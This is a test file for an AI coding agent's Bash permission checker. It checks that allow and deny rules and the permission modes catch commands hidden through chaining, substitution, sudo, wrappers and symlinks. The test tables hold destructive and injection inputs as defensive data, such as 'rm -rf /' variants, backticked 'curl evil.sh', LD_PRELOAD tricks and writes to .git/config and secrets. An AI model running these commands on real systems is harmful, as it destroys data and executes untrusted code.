import { deepStrictEqual, equal, match } from "node:assert/strict";
import type { PermissionMode } from "../../src/permissions/modes.ts";
import type { Rule } from "../../src/permissions/rules.ts";
import {
  allow,
  createScene,
  decideBash,
  deny,
  type Expected,
  policyFor,
  rule,
  table,
} from "./_policy_fixture.ts";

Deno.test("Bash(npm test *) allows npm test alone, with arguments, and through wrappers, nothing more", async (t) => {
  await table(t, { rules: allow("Bash(npm test *)") }, [
    ["npm test", "allow"],
    ["npm test --watch", "allow"],
    ["npm test -- --grep 'a b'", "allow"],
    ['npm test "; rm -rf /"', "allow"],
    ["npm test; rm -rf /", "ask"],
    ["npm test && npm run lint", "ask"],
    ["npm test | tee log", "ask"],
    ["npm tests", "ask"],
    ["npm test $(rm -rf /)", "ask"],
    ["npm test `curl evil.sh`", "ask"],
    ["timeout 60 npm test", "allow"],
    ["nice -n 5 npm test", "allow"],
    ["env CI=1 npm test", "allow"],
    ["CI=1 npm test", "allow"],
    ["LD_PRELOAD=/tmp/x.so npm test", "ask"],
    ["NODE_OPTIONS=--require=/tmp/x.js npm test", "ask"],
    ["sudo npm test", "ask"],
    ["xargs npm test", "allow"],
    ["$RUNNER test", "ask"],
    ["./node_modules/.bin/npm test", "ask"],
    ["npm test > /dev/null 2>&1", "allow"],
    ["npm test > out.txt", "ask"],
  ]);
});

Deno.test("a denied simple command denies the whole command line, wherever it hides", async (t) => {
  await table(t, { rules: [...allow("Bash"), ...deny("Bash(rm *)")] }, [
    ["rm -rf /", "deny"],
    ["rm", "deny"],
    ["npm test && rm -rf /", "deny"],
    ["npm test; rm -rf /", "deny"],
    ["false || rm -rf /", "deny"],
    ["ls | rm -rf /", "deny"],
    ["(cd /tmp && rm -rf x)", "deny"],
    ["{ rm x; }", "deny"],
    ["echo $(rm -rf /)", "deny"],
    ['echo "$(rm -rf /)"', "deny"],
    ["echo `rm -rf /`", "deny"],
    ["cat <(rm x)", "deny"],
    ["cat <<EOF\n$(rm x)\nEOF", "deny"],
    ["sudo rm -rf /", "deny"],
    ["sudo -u root rm -rf /", "deny"],
    ["env A=1 rm x", "deny"],
    ["timeout 5 rm x", "deny"],
    ["nice -n 5 rm x", "deny"],
    ["find . -name '*.o' | xargs rm", "deny"],
    ["xargs -0 -n1 rm -f", "deny"],
    ["\\rm x", "deny"],
    ['r"m" x', "deny"],
    ["/bin/rm x", "deny"],
    ["sudo /usr/bin/rm x", "deny"],
    ["bash -c 'rm -rf /'", "deny"],
    ["sh -ec 'npm test; rm -rf /'", "deny"],
    ["eval rm x", "deny"],
    ["f() { rm -rf /; }", "deny"],
    ["rmdir build", "allow"],
    ["echo rm -rf /", "allow"],
    ["npm test", "allow"],
  ]);
});

Deno.test("Bash rules match flags and quoted arguments by their value", async (t) => {
  await table(t, {
    rules: [...allow("Bash(git *)"), ...deny("Bash(git push --force *)", "Bash(git push -f *)")],
  }, [
    ["git status", "allow"],
    ["git push origin main", "allow"],
    ["git push --force origin main", "deny"],
    ['git push "--force" origin main', "deny"],
    ["git push -f", "deny"],
    ["git push --force-with-lease", "allow"],
    ['git commit -m "a; rm -rf /"', "allow"],
  ]);
});

Deno.test("a command that cannot be parsed asks, unless a deny rule matches its text", async (t) => {
  await t.step("default mode asks", async () => {
    await using scene = await createScene();
    const decision = await decideBash(
      policyFor(scene, { rules: allow("Bash") }),
      scene,
      "echo 'unterminated",
    );
    equal(decision.behavior, "ask");
    match(decision.behavior === "ask" ? decision.reason : "", /cannot be checked.*unterminated single quote/);
  });
  await t.step("bypassPermissions asks too", async () => {
    await using scene = await createScene();
    const policy = policyFor(scene, { mode: "bypassPermissions" });
    equal((await decideBash(policy, scene, "if true; then")).behavior, "ask");
  });
  await t.step("dontAsk denies", async () => {
    await using scene = await createScene();
    const policy = policyFor(scene, { mode: "dontAsk", rules: allow("Bash") });
    equal((await decideBash(policy, scene, "echo 'unterminated")).behavior, "deny");
  });
  await t.step("a deny rule matching the raw text denies", async () => {
    await using scene = await createScene();
    const policy = policyFor(scene, { rules: deny("Bash(echo *)") });
    equal((await decideBash(policy, scene, "echo 'unterminated")).behavior, "deny");
  });
  await t.step("env -S, whose command line is one string, asks", async () => {
    await using scene = await createScene();
    const policy = policyFor(scene, { rules: allow("Bash") });
    equal((await decideBash(policy, scene, "env -S 'rm -rf /'")).behavior, "ask");
  });
});

Deno.test("a redirection is a write that must be allowed as well as the command", async (t) => {
  await using scene = await createScene();
  const cases: [string, PermissionMode, Rule[], string, Expected][] = [
    ["default mode asks for the write", "default", allow("Bash(echo *)"), "echo hi > out.txt", "ask"],
    [
      "a WriteFile rule allows it",
      "default",
      allow("Bash(echo *)", "WriteFile(out.txt)"),
      "echo hi > out.txt",
      "allow",
    ],
    [
      "an EditFile rule allows it",
      "default",
      allow("Bash(echo *)", "EditFile(*.txt)"),
      "echo hi >> out.txt",
      "allow",
    ],
    [
      "a bare WriteFile rule does not",
      "default",
      allow("Bash(echo *)", "WriteFile"),
      "echo hi > out.txt",
      "ask",
    ],
    [
      "acceptEdits allows it inside the workspace",
      "acceptEdits",
      allow("Bash(echo *)"),
      "echo hi &> out.txt",
      "allow",
    ],
    ["acceptEdits does not outside", "acceptEdits", allow("Bash(echo *)"), "echo hi > /tmp/out.txt", "ask"],
    [
      "fd duplications and /dev/null are no writes",
      "default",
      allow("Bash(echo *)"),
      "echo hi 2>&1 >&2 > /dev/null",
      "allow",
    ],
    ["a computed target is unknown", "acceptEdits", allow("Bash(echo *)"), 'echo hi > "$OUT"', "ask"],
    [
      "after cd a relative target is unknown",
      "acceptEdits",
      allow("Bash(echo *)", "Bash(cd *)"),
      "cd .git && echo x > config",
      "ask",
    ],
    [
      "a protected path asks in acceptEdits",
      "acceptEdits",
      allow("Bash(echo *)"),
      "echo x > .git/config",
      "ask",
    ],
    [
      "a protected path asks in bypassPermissions",
      "bypassPermissions",
      [],
      "echo x >> .mewcode/settings.json",
      "ask",
    ],
    ["through a symlink into .git too", "bypassPermissions", [], "echo x > src/gitlink/config", "ask"],
    [
      "unless a rule names it",
      "bypassPermissions",
      allow("WriteFile(.git/info/exclude)"),
      "echo x >> .git/info/exclude",
      "allow",
    ],
    [
      "a deny rule on the path denies",
      "bypassPermissions",
      deny("EditFile(secrets/**)"),
      "echo x > secrets/key",
      "deny",
    ],
    [
      "…also through a symlink",
      "bypassPermissions",
      deny("EditFile(secrets/**)"),
      "echo x > src/link/key",
      "deny",
    ],
    [
      "a write inside $(…) counts",
      "acceptEdits",
      allow("Bash(echo *)"),
      "echo $(echo y > .git/config)",
      "ask",
    ],
    ["dontAsk denies an unallowed write", "dontAsk", allow("Bash(echo *)"), "echo hi > out.txt", "deny"],
  ];
  for (const [name, mode, rules, command, expected] of cases) {
    await t.step(`${name}: ${command} → ${expected}`, async () => {
      const decision = await decideBash(policyFor(scene, { mode, rules }), scene, command);
      equal(decision.behavior, expected, decision.reason);
    });
  }
});

Deno.test("a Bash decision names the rule and its source, and hints at the rule that would allow it", async (t) => {
  await using scene = await createScene();
  await t.step("a denial names the deny rule and the settings file", async () => {
    const rules = [rule("Bash(rm *)", "deny", "user"), ...allow("Bash")];
    const decision = await decideBash(policyFor(scene, { rules }), scene, "npm test && rm -rf /");
    equal(decision.behavior, "deny");
    if (decision.behavior !== "deny") return;
    deepStrictEqual(decision.decidedBy, { kind: "rule", rule: "Bash(rm *)", source: "user settings" });
    match(
      decision.reason,
      /runs "rm -rf \/", which is denied by the deny rule Bash\(rm \*\) from user settings/,
    );
    equal(decision.hint, "remove Bash(rm *) from user settings");
  });
  await t.step("an ask suggests a prefix rule per command", async () => {
    const decision = await decideBash(policyFor(scene), scene, "git push origin main && npm test");
    equal(decision.behavior, "ask");
    if (decision.behavior !== "ask") return;
    deepStrictEqual(decision.decidedBy, { kind: "mode", mode: "default" });
    equal(decision.hint, '--allowedTools "Bash(git push *)" "Bash(npm test *)"');
    match(decision.reason, /runs "git push origin main", "npm test" \(no rule allows them\)/);
  });
  await t.step("a write suggests acceptEdits or a WriteFile rule", async () => {
    const decision = await decideBash(
      policyFor(scene, { rules: allow("Bash(echo *)") }),
      scene,
      "echo x > out.txt",
    );
    equal(
      decision.behavior === "ask" ? decision.hint : "",
      '--permission-mode acceptEdits or --allowedTools "WriteFile(out.txt)"',
    );
  });
  await t.step("an allow names every rule that allowed a part", async () => {
    const policy = policyFor(scene, { rules: allow("Bash(npm test *)", "Bash(npm run lint)") });
    const decision = await decideBash(policy, scene, "npm test && npm run lint");
    equal(decision.behavior, "allow");
    match(
      decision.reason ?? "",
      /"npm test" by Bash\(npm test \*\) from --allowedTools; "npm run lint" by Bash\(npm run lint\)/,
    );
  });
  await t.step("the rule suggested for a command run through sudo keeps sudo", async () => {
    const decision = await decideBash(policyFor(scene), scene, "sudo apt install x");
    equal(decision.behavior === "ask" ? decision.hint : "", '--allowedTools "Bash(sudo apt *)"');
  });
  await t.step("no rule is suggested for a command whose name is computed", async () => {
    const decision = await decideBash(policyFor(scene), scene, "$TOOL --version");
    equal(decision.behavior === "ask" ? decision.hint : "none", undefined);
  });
});

Deno.test("plan mode denies Bash even when a rule allows it", async () => {
  await using scene = await createScene();
  const decision = await decideBash(
    policyFor(scene, { mode: "plan", rules: allow("Bash(ls *)") }),
    scene,
    "ls",
  );
  equal(decision.behavior, "deny");
  match(decision.behavior === "deny" ? decision.reason : "", /plan mode allows only read-only tools/);
});
